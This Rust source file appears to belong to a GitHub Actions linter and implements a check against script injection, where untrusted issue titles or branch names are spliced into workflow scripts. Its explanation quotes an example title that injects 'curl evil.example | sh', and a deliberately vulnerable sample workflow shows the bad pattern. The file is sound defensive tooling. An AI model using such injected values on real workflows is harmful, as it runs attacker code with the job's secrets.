//! Untrusted values spliced into scripts.

use std::sync::Arc;

use crate::diag::{Diagnostic, Severity};
use crate::expr::analysis::ContextPath;
use crate::workflow::{Step, StepWork};
use crate::yaml::Node;

use super::context::{Context, Place};
use super::flow::{Flow, flows};
use super::{Check, workflow};

pub(super) const CHECK: Check = Check {
    code: "script-injection",
    summary: "a script into which a stranger can write commands",
    severity: Severity::Warning,
    why: "\
`${{ }}` is replaced before the shell reads the script. A title such as `\"; curl evil.example | sh; \"` then is not data but
a command, and it runs with the job's token and secrets. Everyone who may open an issue or a pull request can choose such
a title, a branch name or a commit message.

A variable of the environment stays data whatever it holds, so pass the value by `env:` and quote it in the script. Splicing
in `${{ env.TITLE }}` again undoes that and is reported, too. The same holds for the `script` of `actions/github-script`.",
    bad: workflow(
        "\
on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo \"Thanks for ${{ github.event.issue.title }}\"
",
    ),
    good: workflow(
        "\
on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: ${{ github.event.issue.title }}
        run: echo \"Thanks for $TITLE\"
",
    ),
    run,
};

fn run(context: &Context<'_>, found: &mut Vec<Diagnostic>) {
    for script in &context.scripts {
        let reader = |name: &str| script.shell.variable(name);
        Splices { context, node: script.node, step: script.step, place: script.place }
            .report(&reader, found);
    }
    for (index, body) in context.bodies.iter().enumerate() {
        for (at, step) in body.steps.iter().enumerate() {
            if let Some(node) = github_script(*step) {
                let place = Place { body: Some(index), step: Some(at) };
                let reader = |name: &str| format!("process.env.{name}");
                Splices { context, node, step: *step, place }.report(&reader, found);
            }
        }
    }
}

/// The JavaScript that a step hands to `actions/github-script`.
fn github_script(step: Step<'_>) -> Option<&Arc<Node>> {
    let Some(StepWork::Uses(uses)) = step.work() else { return None };
    let (name, _) = uses.text()?.split_once('@')?;
    let is_github_script = name.eq_ignore_ascii_case("actions/github-script");
    step.get("with")?.get("script").filter(|_| is_github_script)
}

/// A script and where it stands.
struct Splices<'c, 'd> {
    context: &'c Context<'d>,
    node: &'c Arc<Node>,
    step: Step<'d>,
    place: Place,
}

impl Splices<'_, '_> {
    /// `reader` writes how the script reads a variable.
    fn report(&self, reader: &dyn Fn(&str) -> String, found: &mut Vec<Diagnostic>) {
        let Some(template) = self.context.document.checked.template(self.node) else { return };
        for part in &template.parts {
            for flow in flows(&part.expr) {
                let span = self.context.span(self.node, part.range.clone());
                if flow.is_untrusted() {
                    let name = variable(&flow.path);
                    let message = format!(
                        "whoever chooses `{}` can write commands into this script",
                        flow.path
                    );
                    let help = format!(
                        "add `{name}: {}` to the step's `env`, and write `{}` in the script",
                        &self.node.text().unwrap_or_default()[part.range.clone()],
                        reader(&name)
                    );
                    found.push(Diagnostic::warning(CHECK.code, span, message).help(help));
                } else if let Some((name, origin)) = self.tainted_variable(&flow.path) {
                    let message = format!(
                        "whoever chooses `{origin}` can write commands into this script by `env.{name}`"
                    );
                    let help = format!("write `{}` in the script", reader(&name));
                    found.push(Diagnostic::warning(CHECK.code, span, message).help(help));
                }
            }
        }
    }

    /// For `env.X`: its name as written and the untrusted value that it holds.
    fn tainted_variable(&self, path: &ContextPath) -> Option<(String, ContextPath)> {
        let [context, name] = path.segments.as_slice() else { return None };
        if context != "env" {
            return None;
        }
        let job = self.context.job(self.place);
        let scopes = [
            self.step.get("env"),
            job.and_then(|job| job.get("env")),
            self.context.document.root.get("env"),
        ];
        let mut entries = scopes.into_iter().flatten().flat_map(|env| env.entries());
        let entry = entries.find(|entry| entry.name().eq_ignore_ascii_case(name))?;
        let template = self.context.document.checked.template(&entry.value)?;
        let mut origins = template.parts.iter().flat_map(|part| flows(&part.expr));
        let origin = origins.find(Flow::is_untrusted)?;
        Some((entry.name().to_owned(), origin.path))
    }
}

/// A name for the variable: `ISSUE_TITLE` for `github.event.issue.title`.
fn variable(path: &ContextPath) -> String {
    let named: Vec<&str> = path
        .segments
        .iter()
        .map(String::as_str)
        .filter(|segment| !matches!(*segment, "*" | "github" | "event"))
        .collect();
    if named.is_empty() {
        return "EVENT".to_owned();
    }
    named[named.len().saturating_sub(2)..].join("_").to_ascii_uppercase().replace('-', "_")
}

#[cfg(test)]
mod tests {
    use super::super::testing;

    #[track_caller]
    fn check(steps: &str, expected: &[&str]) {
        testing::check("script-injection", &testing::steps(steps), expected);
    }

    #[test]
    fn a_spliced_value_is_found_where_it_stands() {
        let title =
            "whoever chooses `github.event.issue.title` can write commands into this script";
        check(
            "- run: |\n    one\n    echo '${{ github.event.issue.title }}'",
            &[&format!("9:17 {title}")],
        );
        check(
            "- uses: actions/github-script@v7\n  with:\n    script: log('${{ github.event.issue.title }}')",
            &[&format!("9:24 {title}")],
        );
    }

    #[test]
    fn a_variable_that_is_spliced_again_is_found() {
        check(
            "- env: {Title: '${{ github.head_ref }}'}\n  run: echo ${{ env.TITLE }}",
            &[
                "8:19 whoever chooses `github.head_ref` can write commands into this script by `env.Title`",
            ],
        );
    }

    #[test]
    fn the_help_fits_the_shell() {
        let help = |rest: &str| {
            let text = testing::steps(&format!("- run: echo ${{{{ github.head_ref }}}}\n  {rest}"));
            testing::help("script-injection", &text)
        };
        let add = "add `HEAD_REF: ${{ github.head_ref }}` to the step's `env`, and write";
        assert_eq!(help("shell: bash"), format!("{add} `\"$HEAD_REF\"` in the script"));
        assert_eq!(help("shell: pwsh"), format!("{add} `$env:HEAD_REF` in the script"));
    }

    #[test]
    fn data_that_stays_data_is_fine() {
        check("- env: {T: '${{ github.event.issue.title }}'}\n  run: echo \"$T\"", &[]);
        check("- run: echo ${{ github.event.issue.number }} ${{ env.PATH }}", &[]);
        check("- run: echo ${{ contains(github.event.issue.title, 'x') }}", &[]);
        check("- uses: some/action@v1\n  with: {script: '${{ github.head_ref }}'}", &[]);
        check("- run: x\n  if: github.event.issue.title == 'x'", &[]);
    }
}
